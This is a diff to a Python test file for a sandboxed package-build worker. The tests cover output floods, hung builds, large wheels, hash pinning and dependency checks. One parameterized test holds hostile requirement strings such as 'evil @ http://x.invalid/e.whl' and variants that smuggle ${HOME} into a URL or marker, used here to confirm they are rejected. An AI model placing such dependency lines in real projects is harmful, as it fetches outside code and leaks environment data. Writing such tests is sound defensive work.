@@ -3,13 +3,16 @@
 from __future__ import annotations
 
 import asyncio
+import hashlib
 import os
 import socket
 import tarfile
+import tracemalloc
 from collections.abc import AsyncIterator, Callable
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
+from uuid import uuid4
 
 import pytest
 import pytest_asyncio
@@ -20,7 +23,7 @@ from workers.runners import Assignment, Failure, Success
 from workers.runners.deterministic import DeterministicRunner
 from workers.sandbox import layers as sandbox_layers
 from workers.sandbox.layers import Layers
-from workers.sandbox.packages.build_box import BuildLimits
+from workers.sandbox.packages.builds import BuildLimits
 
 pytestmark = pytest.mark.skipif(
     sandbox_layers.probe("auto").bwrap is None, reason="packages are built only in mounts of their own"
@@ -119,7 +122,7 @@ async def test_a_build_sees_nothing_of_the_machine_and_has_no_network(
     assert "DATABASE_URL" not in spied.pop("variables")
     assert "secret" not in spied.pop("values")
     assert spied.pop("jobs") == ["archive", "source", "tmp", "wheels"]
-    assert spied.pop("processes") == ["1"]
+    assert spied.pop("processes") == ["1", "2"], "the first of its sandbox, and itself"
     if os.getuid() != 0 and spied["root"] != "closed":
         pytest.fail(str(spied))
     assert spied.pop("interfaces") in ("closed", "[(1, 'lo')]")
@@ -319,6 +322,124 @@ async def test_nothing_of_a_source_runs_outside_of_the_sandbox(
     assert not planted.exists()
 
 
+async def test_a_build_that_prints_without_end_takes_little_memory_of_the_worker(
+    skill: Skill, notebook: Any, index: Path, tmp_path: Path
+) -> None:
+    source(
+        index, "flood", "def build():\n    while True:\n        os.write(1, b'0123456789abcde\\n' * 4096)\n"
+    )
+    runner = open_runner(tmp_path, build_limits=BuildLimits(step_s=2))
+    tracemalloc.start()
+    try:
+        job = skill("def run(inputs): return 1", requirements=_needs(tmp_path, "flood"))
+        outcome = await runner.run(job, notebook)
+        _, peak_bytes = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+        await runner.close()
+    assert isinstance(outcome, Failure)
+    assert "took longer than 2 s" in outcome.message
+    assert "0123456789abcde" in outcome.message
+    assert 32 * 1024 < len(_log(notebook)) < 80 * 1024
+    assert peak_bytes < 16 << 20, f"{peak_bytes >> 20} MiB"
+
+
+@pytest.mark.parametrize(
+    "needed",
+    ["evil @ http://x.invalid/e.whl", "evil\n @ http://x.invalid/${HOME}", "evil; os_name == '${HOME}'"],
+)
+async def test_a_built_wheel_that_requires_more_than_packages_of_the_index_is_rejected(
+    runner: DeterministicRunner, skill: Skill, notebook: Any, index: Path, tmp_path: Path, needed: str
+) -> None:
+    source(index, "greedy", needs=[needed])
+    outcome = await runner.run(
+        skill("def run(inputs): return 1", requirements=_needs(tmp_path, "greedy")), notebook
+    )
+    assert isinstance(outcome, Failure), outcome
+    assert "greedy cannot be used: its wheel requires" in outcome.message
+    assert list((tmp_path / "home/wheels").iterdir()) == []
+
+
+async def test_a_large_wheel_is_copied_in_pieces(
+    runner: DeterministicRunner, skill: Skill, notebook: Any, index: Path, tmp_path: Path
+) -> None:
+    source(
+        index,
+        "large",
+        """
+        def build_wheel(folder, settings=None, metadata=None):
+            name = write(folder, {})
+            with open(f"{folder}/{name}", "rb+") as file:
+                wheel = file.read()
+                file.seek(0)
+                file.truncate()
+                file.seek(64 << 20)
+                file.write(wheel)
+            return name
+        """,
+    )
+    runner = open_runner(tmp_path)
+    tracemalloc.start()
+    try:
+        job = skill("def run(inputs): return 1", requirements=_needs(tmp_path, "large"))
+        await runner.run(job, notebook)
+        _, peak_bytes = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+        await runner.close()
+    assert peak_bytes < 32 << 20, f"{peak_bytes >> 20} MiB"
+
+
+async def test_sleeping_builds_of_one_project_leave_a_place_to_another(
+    skill: Skill, notebook: Any, index: Path, tmp_path: Path
+) -> None:
+    runner = open_runner(tmp_path, build_limits=BuildLimits(step_s=5))
+    names = ("sleeps-1", "sleeps-2", "sleeps-3")
+    for name in names:
+        source(index, name.replace("-", "_"), "import time\ndef build(): time.sleep(600)")
+    source(index, "honest")
+    job = skill("def run(inputs): return 1")
+    sleeping = [
+        asyncio.create_task(
+            runner.run(replace(job, job_id=uuid4(), requirements=_needs(tmp_path, name, name)), notebook)
+        )
+        for name in names
+    ]
+    await until(lambda: "building sleeps" in _log(notebook))
+    code = "import honest\ndef run(inputs): return honest.VALUE"
+    ours = type(notebook)()
+    assert await _value(runner, skill(code, requirements=_needs(tmp_path, "honest", "ours")), ours) == "built"
+    assert not any(task.done() for task in sleeping)
+    assert _log(notebook).count("building sleeps") == 1
+    await runner.close()
+    await asyncio.gather(*sleeping, return_exceptions=True)
+
+
+async def test_a_source_is_built_only_if_it_has_a_hash_of_the_requirements(
+    runner: DeterministicRunner, skill: Skill, notebook: Any, index: Path, tmp_path: Path
+) -> None:
+    source(index, "pinned", "print('the code of the package runs', flush=True)")
+    job = skill("import pinned\ndef run(inputs): return pinned.VALUE")
+    good = hashlib.sha512((index / "pinned-1.0.tar.gz").read_bytes()).hexdigest()
+    for wrong in (f"sha256:{'1' * 64}", f"sha512:{'1' * 128}"):
+        needs = _needs(tmp_path, f"pinned==1.0 --hash={wrong}", wrong[:6])
+        outcome = await runner.run(replace(job, requirements=needs), notebook)
+        assert isinstance(outcome, Failure), outcome
+        assert "has none of the hashes of requirements.txt" in outcome.message
+    assert "the code of the package runs" not in _log(notebook)
+    needs = _needs(tmp_path, f"pinned==1.0 --hash=sha256:{'1' * 64} --hash=sha512:{good}", "good")
+    assert await _value(runner, replace(job, requirements=needs), notebook) == "built"
+
+
+@pytest.mark.parametrize("line", ["extra[x]", "extra[x]==1.0", "Extra >= 0.5, < 2"])
+async def test_the_package_that_is_built_is_the_one_that_is_required(
+    runner: DeterministicRunner, skill: Skill, notebook: Any, index: Path, tmp_path: Path, line: str
+) -> None:
+    source(index, "extra")
+    code = "import extra\ndef run(inputs): return extra.VALUE"
+    assert await _value(runner, skill(code, requirements=_needs(tmp_path, line)), notebook) == "built"
+
+
 async def test_a_stopping_worker_ends_its_builds(
     skill: Skill, notebook: Any, index: Path, tmp_path: Path
 ) -> None:
@@ -344,9 +465,11 @@ async def test_without_mounts_nothing_is_built_and_the_job_says_why(
     source(index, "rare")
     runner = open_runner(tmp_path, layers=Layers(None, 0, True, ("bubblewrap is not installed",)))
     try:
-        outcome = await runner.run(
-            skill("def run(inputs): return 1", requirements=_needs(tmp_path, "rare")), notebook
+        # Without mounts a user of its own would have to be able to enter the folder of the tests.
+        assignment = skill(
+            "def run(inputs): return 1", requirements=_needs(tmp_path, "rare"), sandbox_uid=None
         )
+        outcome = await runner.run(assignment, notebook)
     finally:
         await runner.close()
     assert isinstance(outcome, Failure)
